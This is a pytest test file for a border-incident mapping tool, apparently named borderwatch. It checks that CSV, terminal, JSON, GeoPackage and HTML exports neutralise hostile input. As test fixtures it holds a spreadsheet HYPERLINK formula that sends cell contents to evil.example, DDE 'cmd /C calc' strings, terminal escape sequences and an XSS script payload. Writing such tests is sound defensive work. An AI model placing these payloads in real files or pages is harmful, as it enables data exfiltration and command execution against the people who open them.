"""Hostile text in titles, outlets, urls, article text and place names stays inert in every output.

Tables (terminal control characters stripped), JSON and GeoJSON (the same data, controls escaped),
CSV (formula prefixes neutralised, numbers untouched), GeoPackage (kept as data) and HTML (only
inside escaped JSON).
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pandas as pd
import pyogrio
import pytest
from click.testing import CliRunner

from borderwatch.cli import cli
from borderwatch.export import csv_safe, incidents_to_csv, incidents_to_geojson, write_gpkg
from borderwatch.output import format_table, json_text
from borderwatch.render import render_map

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TERMINAL = "\x1b]0;pwned\x07\x1b[2J\x9b31m\u202eevil"
HOSTILE = {
    "title": FORMULA + TERMINAL,
    "outlet": "@SUM(1+1)*cmd|' /C calc'!A0" + TERMINAL,
    "url": "-2+3+cmd|' /C calc'!A0",
    "place": "+Kot " + TERMINAL,
    "evidence": "\t=1+2 <script>alert(1)</script> {{ 7*7 }}" + TERMINAL,
}
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def hostile_incident() -> dict:
    return {
        "id": "evt-1", "type": "attack", "date": "2024-03-18", "date_precision": "day", "place": HOSTILE["place"],
        "gazetteer_id": None, "lat": 30.92, "lon": -66.45 + 133, "geo_precision": 1, "fatalities": 2,
        "fatalities_low": 2, "fatalities_high": 2, "actors": [HOSTILE["title"]], "evidence": HOSTILE["evidence"],
        "n_sources": 1, "segment_name": "=S", "side": "PK", "distance_km": 5.0, "zone": "border", "zone_km": 50.0,
        "role": "main", "title": HOSTILE["title"], "outlet": HOSTILE["outlet"], "url": HOSTILE["url"],
        "sources": [{"outlet": HOSTILE["outlet"], "url": HOSTILE["url"], "article_id": "@a1",
                     "evidence": HOSTILE["evidence"], "title": HOSTILE["title"]}],
    }  # fmt: skip


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    article = {
        "id": "h1",
        "published": "2024-03-20",
        "title": HOSTILE["title"],
        "outlet": HOSTILE["outlet"],
        "url": HOSTILE["url"],
        "text": "Gunmen attacked a post in Chaman on Monday, killing two. " + HOSTILE["evidence"],
    }
    (folder / "h.jsonl").write_text(json.dumps(article) + "\n", encoding="utf-8")
    db = folder / "store.gpkg"
    result = CliRunner().invoke(cli, ["ingest", str(folder / "h.jsonl"), "--db", str(db)])
    assert result.exit_code == 0, result.output
    return db


def run(*args: str) -> str:
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def assert_no_formula_cells(text: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                assert re.fullmatch(r"-?\d+(?:\.\d+)?", cell), cell  # only plain numbers may start so


def test_csv_safe_quotes_formulas_and_leaves_numbers() -> None:
    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_safe(prefix + "cmd") == "'" + prefix + "cmd"
    assert csv_safe("-12.5") == "-12.5" and csv_safe(-12.5) == -12.5 and csv_safe(3) == 3
    assert csv_safe("Torkham") == "Torkham" and csv_safe("") == ""


def test_csv_of_a_hostile_incident_is_inert_and_reads_back() -> None:
    text = incidents_to_csv([hostile_incident()], timestamp=1)
    assert_no_formula_cells(text)
    row = pd.read_csv(io.StringIO(text), keep_default_na=False).iloc[0]
    assert row["location"] == "'" + HOSTILE["place"]
    assert row["evidence"] == "'" + HOSTILE["evidence"]
    assert row["source"] == "'" + HOSTILE["outlet"]
    assert row["url"] == "'" + HOSTILE["url"]
    assert row["longitude"] == pytest.approx(66.55) and row["fatalities"] == 2  # numbers stay numbers


def test_table_strips_terminal_controls_and_json_escapes_them() -> None:
    row = hostile_incident()
    table = format_table([row], ["id", "place", "title", "outlet", "url", "evidence"], max_width=500)
    assert not CONTROLS.search(table)
    assert "pwned" in table and "=HYPERLINK" in table  # the text shows, the controls do not
    text = json_text(row)
    assert not CONTROLS.search(text)
    assert json.loads(text)["place"] == HOSTILE["place"]  # the data itself is unchanged


def test_geojson_gpkg_and_html_keep_hostile_text_as_data(tmp_path: Path) -> None:
    collection = incidents_to_geojson([hostile_incident()])
    assert json.loads(json_text(collection))["features"][0]["properties"]["place"] == HOSTILE["place"]
    out = write_gpkg(collection, tmp_path / "h.gpkg", "incidents")
    frame = pyogrio.read_dataframe(out, layer="incidents")
    assert frame.iloc[0]["place"] == HOSTILE["place"] and frame.iloc[0]["evidence"] == HOSTILE["evidence"]
    html = render_map([hostile_incident()], [], tmp_path / "h.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in html
    payload = re.search(r'id="bw-data">(.*?)</script>', html, re.S).group(1)
    feature = json.loads(payload)["incidents"]["features"][0]["properties"]
    assert feature["place"] == HOSTILE["place"] and feature["sources"][0]["url"] == HOSTILE["url"]


def test_every_command_output_is_inert(hostile_store: Path, tmp_path: Path) -> None:
    db = ["--db", str(hostile_store)]
    for args in (["articles"], ["incidents"], ["segments"], ["incidents-near", "Chaman"]):
        table = run(*args, *db)
        assert not CONTROLS.search(table), args
    articles = run("articles", *db)
    assert "pwned" in articles and "@SUM" in articles
    for args in (["articles", "--json"], ["incidents", "--json"], ["incidents", "--geojson"], ["export"]):
        text = run(*args, *db)
        assert not CONTROLS.search(text.replace("\n", "")), args
    [listed] = [json.loads(line) for line in run("incidents", "--json", *db).splitlines()]
    assert listed["sources"][0]["outlet"] == HOSTILE["outlet"] and listed["sources"][0]["url"] == HOSTILE["url"]
    assert HOSTILE["evidence"].strip() in json.loads(run("export", *db))["features"][0]["properties"]["evidence"]
    out = tmp_path / "h.csv"
    run("export", "--format", "csv", "--out", str(out), *db)
    text = out.read_text(encoding="utf-8")
    assert_no_formula_cells(text)
    assert pd.read_csv(out, keep_default_na=False).iloc[0]["source"] == "'" + HOSTILE["outlet"]
    gpkg = tmp_path / "h.gpkg"
    run("export", "--format", "gpkg", "--out", str(gpkg), *db)
    assert json.loads(pyogrio.read_dataframe(gpkg).iloc[0]["sources"])[0]["outlet"] == HOSTILE["outlet"]
    page = tmp_path / "h.html"
    run("map", "--out", str(page), *db)
    html = page.read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in html and "\x1b" not in html


def test_show_is_inert(hostile_store: Path) -> None:
    db = ["--db", str(hostile_store)]
    incident_id = json.loads(run("incidents", "--json", *db).splitlines()[0])["id"]
    shown = run("show", incident_id, *db)
    assert "pwned" in shown and not CONTROLS.search(shown)  # the quote shows whole, its controls do not
